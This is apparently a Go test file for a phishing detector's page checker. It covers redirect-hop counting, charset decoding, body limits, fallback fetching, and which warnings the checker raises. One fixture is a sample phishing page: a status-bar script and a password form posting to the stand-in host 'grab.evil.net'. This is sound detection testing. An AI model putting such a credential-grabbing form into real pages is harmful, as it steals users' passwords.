package pagecheck

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"testing"

	"github.com/dmitrijs2005/phishguard/internal/logging"
	"github.com/dmitrijs2005/phishguard/internal/models"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/text/encoding/charmap"
)

type stubFetcher struct {
	page *Page
	err  error
}

func (s stubFetcher) Fetch(_ context.Context, url string) (*Page, error) {
	if s.err != nil {
		return nil, s.err
	}
	p := *s.page
	p.URL = url
	return &p, nil
}

// chain serves /hop/N which redirects down to /hop/0.
func chain(t *testing.T) *httptest.Server {
	t.Helper()
	mux := http.NewServeMux()
	mux.HandleFunc("/hop/{n}", func(w http.ResponseWriter, r *http.Request) {
		var n int
		fmt.Sscanf(r.PathValue("n"), "%d", &n)
		if n == 0 {
			fmt.Fprint(w, "<html><body>landed</body></html>")
			return
		}
		http.Redirect(w, r, fmt.Sprintf("/hop/%d", n-1), http.StatusFound)
	})
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return srv
}

func TestHTTPFetcher_CountsHops(t *testing.T) {
	srv := chain(t)
	f := NewHTTPFetcher()

	p, err := f.Fetch(context.Background(), srv.URL+"/hop/3")
	require.NoError(t, err)
	assert.Equal(t, 3, p.Hops)
	assert.Equal(t, srv.URL+"/hop/0", p.FinalURL)
	assert.Contains(t, p.HTML, "landed")

	p, err = f.Fetch(context.Background(), srv.URL+"/hop/0")
	require.NoError(t, err)
	assert.Equal(t, 0, p.Hops)
}

func TestHTTPFetcher_StopsAtMaxRedirects(t *testing.T) {
	srv := chain(t)
	f := NewHTTPFetcher(WithMaxRedirects(4))

	p, err := f.Fetch(context.Background(), srv.URL+"/hop/9")
	require.NoError(t, err)
	assert.Equal(t, 4, p.Hops)
	assert.Equal(t, http.StatusFound, p.Status)
}

func TestHTTPFetcher_DecodesCharset(t *testing.T) {
	body, err := charmap.Windows1252.NewEncoder().String("<p>café</p>")
	require.NoError(t, err)

	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=windows-1252")
		fmt.Fprint(w, body)
	}))
	defer srv.Close()

	p, err := NewHTTPFetcher().Fetch(context.Background(), srv.URL)
	require.NoError(t, err)
	assert.Contains(t, p.HTML, "café")
}

func TestHTTPFetcher_LimitsBody(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, "0123456789abcdef")
	}))
	defer srv.Close()

	p, err := NewHTTPFetcher(WithMaxBody(4)).Fetch(context.Background(), srv.URL)
	require.NoError(t, err)
	assert.Equal(t, "0123", p.HTML)
}

func TestFallbackFetcher(t *testing.T) {
	good := stubFetcher{page: &Page{HTML: "ok"}}
	bad := stubFetcher{err: errors.New("boom")}

	p, err := FallbackFetcher{Primary: bad, Secondary: good}.Fetch(context.Background(), "https://a.example")
	require.NoError(t, err)
	assert.Equal(t, "ok", p.HTML)

	_, err = FallbackFetcher{Primary: bad, Secondary: bad}.Fetch(context.Background(), "https://a.example")
	assert.Error(t, err)
}

func TestChecker_Run(t *testing.T) {
	srv := chain(t)
	ctx := context.Background()

	phishy := &Page{HTML: `<script>window.status="x"</script>
		<form action="https://grab.evil.net/"><input type="password"><input type="submit"></form>`}

	t.Run("all warnings in order", func(t *testing.T) {
		c := NewChecker(stubFetcher{page: phishy}, NewHTTPFetcher(), logging.Nop())
		got := c.Run(ctx, srv.URL+"/hop/3", phishy)
		assert.Equal(t, []models.Warning{WarnStatusBar, WarnForwarding, WarnFakeForm}, got)
	})

	t.Run("two hops are tolerated", func(t *testing.T) {
		c := NewChecker(stubFetcher{page: &Page{HTML: "<p>hi</p>"}}, NewHTTPFetcher(), logging.Nop())
		assert.Empty(t, c.Run(ctx, srv.URL+"/hop/2", &Page{HTML: "<p>hi</p>"}))
	})

	t.Run("load failure fails open", func(t *testing.T) {
		c := NewChecker(stubFetcher{err: errors.New("dns")}, stubFetcher{err: errors.New("dns")}, logging.Nop())
		page, err := c.Load(ctx, "https://down.example")
		require.Error(t, err)
		assert.Empty(t, c.Run(ctx, "https://down.example", page))
	})

	t.Run("webmail skips form check", func(t *testing.T) {
		c := NewChecker(nil, stubFetcher{page: &Page{}}, logging.Nop())
		page := &Page{HTML: `<form action="https://other.example/"><input type="email"><input type="submit"></form>`}
		assert.Empty(t, c.Run(ctx, "https://mail.google.com/mail/u/0", page))
	})
}
